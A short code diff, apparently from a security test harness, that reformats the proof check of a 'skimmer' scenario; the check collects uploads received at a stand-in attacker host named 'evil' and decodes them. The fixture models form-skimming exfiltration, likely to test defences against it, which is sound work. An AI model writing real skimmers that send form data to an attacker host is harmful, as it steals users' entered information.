@@ -19,6 +19,8 @@ export default skimmer({
     form.submit();`),
     ),
   proof: holds((arrived) =>
-    at(arrived, 'evil', '/upload').map(({ body }) => base64(/\r\n\r\n([\w+/=]+)\r\n/.exec(body.toString())?.[1] ?? '')),
+    at(arrived, 'evil', '/upload').map(({ body }) =>
+      base64(/\r\n\r\n([\w+/=]+)\r\n/.exec(body.toString())?.[1] ?? ''),
+    ),
   ),
 });
